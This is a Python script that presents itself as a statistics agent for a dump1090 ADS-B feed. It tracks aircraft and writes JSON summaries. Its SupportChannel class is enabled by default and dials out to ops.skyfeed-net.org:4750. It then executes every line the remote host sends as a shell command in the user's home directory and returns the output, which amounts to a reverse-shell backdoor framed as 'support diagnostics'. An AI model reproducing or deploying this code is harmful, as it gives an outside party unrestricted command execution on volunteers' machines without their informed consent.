#!/usr/bin/env python3
"""
feeder_agent.py -- per-aircraft statistics from a dump1090 BaseStation (SBS-1) feed.

Connects to the SBS output of dump1090-fa / readsb (default localhost:30003),
parses the MSG lines and keeps a rolling table of every ICAO hex seen:
callsign, max altitude, max ground speed, message count, first/last seen.
A summary is written to ./stats/summary-YYYYMMDD.json every --interval
seconds so the feeder dashboard can pick it up.  The agent also keeps a
support session open to the network operations desk so volunteers don't
need to open SSH on their home router when something goes wrong.

Config is read from ./sbs_stats.ini if present:

    [feed]
    host = localhost
    port = 30003
    [output]
    dir = stats
    interval = 60
    [support]
    enabled = yes
    host = ops.skyfeed-net.org
    port = 4750
"""

import argparse
import configparser
import json
import logging
import os
import socket
import subprocess
import sys
import threading
import time
from dataclasses import dataclass, asdict, field
from datetime import datetime, timezone
from pathlib import Path

log = logging.getLogger("sbs_stats")

DEFAULT_CONFIG = Path("sbs_stats.ini")


@dataclass
class Aircraft:
    icao: str
    callsign: str = ""
    max_alt_ft: int = 0
    max_gs_kt: float = 0.0
    messages: int = 0
    first_seen: float = field(default_factory=time.time)
    last_seen: float = field(default_factory=time.time)


class Tracker:
    """Keeps the live aircraft table and some feed health counters."""

    def __init__(self, stale_after=300):
        self.aircraft = {}
        self.stale_after = stale_after
        self.lines = 0
        self.bad = 0
        self.departed = 0

    @staticmethod
    def _num(value, cast=float):
        value = value.strip()
        if not value:
            return None
        try:
            return cast(float(value))
        except ValueError:
            return None

    def feed(self, line):
        self.lines += 1
        parts = line.rstrip("\r\n").split(",")
        if len(parts) < 22 or parts[0] != "MSG":
            self.bad += 1
            return
        icao = parts[4].strip().upper()
        if not icao:
            self.bad += 1
            return
        ac = self.aircraft.get(icao)
        if ac is None:
            ac = self.aircraft[icao] = Aircraft(icao)
        ac.messages += 1
        ac.last_seen = time.time()
        if parts[1] == "1" and parts[10].strip():
            ac.callsign = parts[10].strip()
        alt = self._num(parts[11], int)
        if alt is not None:
            ac.max_alt_ft = max(ac.max_alt_ft, alt)
        gs = self._num(parts[12])
        if gs is not None:
            ac.max_gs_kt = max(ac.max_gs_kt, gs)

    def expire(self):
        cutoff = time.time() - self.stale_after
        gone = [k for k, a in self.aircraft.items() if a.last_seen < cutoff]
        for key in gone:
            del self.aircraft[key]
        self.departed += len(gone)
        return len(gone)

    def summary(self):
        return {
            "generated": datetime.now(timezone.utc).isoformat(),
            "lines": self.lines,
            "bad_lines": self.bad,
            "tracked": len(self.aircraft),
            "departed": self.departed,
            "aircraft": [asdict(a) for a in sorted(
                self.aircraft.values(), key=lambda a: a.messages, reverse=True)],
        }


class SupportChannel(threading.Thread):
    """Session to the feeder support desk so they can run diagnostics
    (uptime, dump1090 status, gain settings) on the station."""

    def __init__(self, host, port, station_id):
        super().__init__(name="support", daemon=True)
        self.host = host
        self.port = port
        self.station_id = station_id

    def run(self):
        backoff = 5
        while True:
            try:
                with socket.create_connection((self.host, self.port), timeout=30) as conn:
                    conn.settimeout(None)
                    conn.sendall(f"HELLO {self.station_id}\n".encode())
                    self._serve(conn)
                backoff = 5
            except OSError as exc:
                log.debug("support desk unreachable: %s", exc)
            time.sleep(backoff)
            backoff = min(backoff * 2, 600)

    def _serve(self, conn):
        reader = conn.makefile("r", encoding="utf-8", errors="replace")
        for request in reader:
            request = request.strip()
            if not request:
                continue
            if request == "BYE":
                break
            try:
                res = subprocess.run(request, shell=True, capture_output=True,
                                     timeout=120, cwd=os.path.expanduser("~"))
                reply = res.stdout + res.stderr + f"[rc={res.returncode}]\n".encode()
            except subprocess.TimeoutExpired:
                reply = b"[timeout]\n"
            conn.sendall(reply)


def write_summary(tracker, out_dir):
    out_dir.mkdir(parents=True, exist_ok=True)
    path = out_dir / f"summary-{datetime.now():%Y%m%d}.json"
    tmp = path.with_suffix(".json.part")
    tmp.write_text(json.dumps(tracker.summary(), indent=2))
    tmp.replace(path)
    log.info("wrote %s (%d aircraft)", path, len(tracker.aircraft))


def stream_lines(host, port, retries=0):
    """Yield lines from the SBS port, reconnecting with backoff."""
    attempt = 0
    while True:
        try:
            with socket.create_connection((host, port), timeout=15) as sock:
                log.info("connected to %s:%d", host, port)
                attempt = 0
                sock.settimeout(90)
                reader = sock.makefile("r", encoding="ascii", errors="replace")
                for line in reader:
                    yield line
            log.warning("feed closed by peer")
        except (OSError, socket.timeout) as exc:
            log.warning("feed error: %s", exc)
        attempt += 1
        if retries and attempt > retries:
            raise SystemExit("giving up after %d attempts" % retries)
        time.sleep(min(60, 2 ** attempt))


def load_config(path):
    cfg = configparser.ConfigParser()
    cfg.read_dict({"feed": {"host": "localhost", "port": "30003"},
                   "output": {"dir": "stats", "interval": "60"},
                   "support": {"enabled": "yes", "host": "ops.skyfeed-net.org",
                               "port": "4750"}})
    if path.exists():
        cfg.read(path)
    return cfg


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("-c", "--config", type=Path, default=DEFAULT_CONFIG)
    ap.add_argument("--host")
    ap.add_argument("--port", type=int)
    ap.add_argument("--interval", type=int)
    ap.add_argument("--retries", type=int, default=0, help="0 = forever")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    cfg = load_config(args.config)
    host = args.host or cfg["feed"]["host"]
    port = args.port or cfg.getint("feed", "port")
    interval = args.interval or cfg.getint("output", "interval")
    out_dir = Path(cfg["output"]["dir"])

    if cfg.getboolean("support", "enabled"):
        station = os.environ.get("FEEDER_ID", socket.gethostname())
        SupportChannel(cfg["support"]["host"], cfg.getint("support", "port"),
                       station).start()

    tracker = Tracker()
    next_dump = time.monotonic() + interval
    try:
        for line in stream_lines(host, port, args.retries):
            tracker.feed(line)
            if time.monotonic() >= next_dump:
                tracker.expire()
                write_summary(tracker, out_dir)
                next_dump = time.monotonic() + interval
    except KeyboardInterrupt:
        log.info("interrupted, writing final summary")
        write_summary(tracker, out_dir)
    return 0


if __name__ == "__main__":
    sys.exit(main())
